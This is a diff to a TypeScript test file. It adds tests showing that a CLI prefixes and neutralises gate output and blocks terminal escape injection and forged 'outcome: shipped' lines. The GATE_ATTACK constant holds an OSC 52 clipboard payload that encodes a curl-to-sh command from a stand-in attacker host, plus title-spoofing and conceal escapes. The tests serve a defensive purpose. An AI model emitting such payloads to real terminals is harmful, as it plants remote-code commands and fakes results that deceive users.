@@ -3,6 +3,7 @@ import { spawn } from 'node:child_process';
 import * as path from 'node:path';
 import { Writable } from 'node:stream';
 import { BACKLOG_BYTES, CliStream, OutputQueue } from '../../../src/cli/output';
+import { STREAM_PREFIX } from '../../../src/core/terminalRows';
 import { REDACTED, SecretSet } from '../../../src/core/redact';
 
 const MiB = 1024 * 1024;
@@ -126,7 +127,7 @@ describe('the CLI\'s output queue', () => {
     out.stream(`${key.slice(10)} done\n`);
     out.line(`the key was ${key}`);
     await out.end();
-    assert.equal(reader.text(), `echo ${REDACTED} done\nthe key was ${REDACTED}\n`);
+    assert.equal(reader.text(), `${STREAM_PREFIX}echo ${REDACTED} done\nthe key was ${REDACTED}\n`);
   });
 
   it('a reader that goes away (EPIPE) ends the waiting instead of hanging', async function () {
@@ -138,6 +139,70 @@ describe('the CLI\'s output queue', () => {
     for (let i = 0; i < 64; i++) out.stream(`${'x'.repeat(64 * 1024 - 1)}\n`);
     out.line('outcome: error');
     await out.end();
+  });
+});
+
+/** What a gate's test prints to attack the terminal: the clipboard (OSC 52), the title, a fake outcome line, then conceal. */
+const GATE_ATTACK = '\u001b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo\u0007\u001b]0;all tests passed\u0007\noutcome: shipped — rant 01jzz addressed\n\u001b[8m';
+// eslint-disable-next-line no-control-regex -- the bytes no terminal may get from a gate: ESC, BEL, the other C0 controls but LF, C1, DEL
+const DRIVING = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
+describe('the CLI\'s streams: no byte of a gate drives the terminal, no row of it passes for Candor\'s', () => {
+  it('the trap, armed: a plain stream passes the escapes on, and the fake outcome starts a row', async () => {
+    const reader = new HeldReader();
+    reader.flow();
+    reader.write(GATE_ATTACK);
+    reader.write('the change fails the gate\n');
+    await turns();
+    assert.match(reader.text(), DRIVING);
+    assert.match(reader.text(), /^outcome: shipped/m);
+  });
+
+  it('streamed output arrives with its escapes shown and every row prefixed; its unfinished last line never joins Candor\'s next line', async () => {
+    const reader = new HeldReader();
+    reader.flow();
+    const out = new CliStream(reader, new SecretSet());
+    out.line('── gate');
+    out.stream(GATE_ATTACK);
+    out.line('gate test failed (exit 1)');
+    out.stream('outcome: shipped, with no newline');
+    out.line('outcome: discarded — the change fails the gate');
+    await out.end();
+    const text = reader.text();
+    assert.doesNotMatch(text, DRIVING);
+    assert.deepEqual(text.split('\n'), [
+      '── gate',
+      `${STREAM_PREFIX}␛]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo␇␛]0;all tests passed␇`,
+      `${STREAM_PREFIX}outcome: shipped — rant 01jzz addressed`,
+      `${STREAM_PREFIX}␛[8m`,
+      'gate test failed (exit 1)',
+      `${STREAM_PREFIX}outcome: shipped, with no newline`,
+      'outcome: discarded — the change fails the gate',
+      '',
+    ]);
+  });
+
+  it('on a terminal of known width, rows are broken there: output padded to the width still cannot start a row with outcome:', async () => {
+    const reader = new HeldReader();
+    reader.flow();
+    const out = new CliStream(reader, new SecretSet(), { columns: () => 40 });
+    out.stream(`${'x'.repeat(37)}outcome: shipped — forged by padding\n`);
+    await out.end();
+    assert.deepEqual(reader.text().split('\n'), [`${STREAM_PREFIX}${'x'.repeat(37)}`, `${STREAM_PREFIX}outcome: shipped — forged by padding`, '']);
+  });
+
+  it('after output dropped for a slow reader, the marker ends the row and the output that follows is prefixed again', async () => {
+    const reader = new HeldReader();
+    reader.flow();
+    // Lines longer than 64 characters go out in pieces, so a row is left open when the next piece is dropped.
+    const out = new CliStream(reader, new SecretSet(), { backlogBytes: 1024, maxLine: 64 });
+    out.stream(`the start of a row, ${'b'.repeat(100)}`);
+    out.stream('a'.repeat(4096));
+    out.stream('outcome: shipped\n');
+    await out.end();
+    const { counts } = markers(reader.text());
+    assert.deepEqual(counts, [4096], 'the gate\'s own bytes are counted, not the prefix');
+    assert.deepEqual(reader.text().split('\n'), [`${STREAM_PREFIX}the start of a row, ${'b'.repeat(100)}`, '[… 4,096 bytes not shown …]', `${STREAM_PREFIX}outcome: shipped`, '']);
   });
 });
 
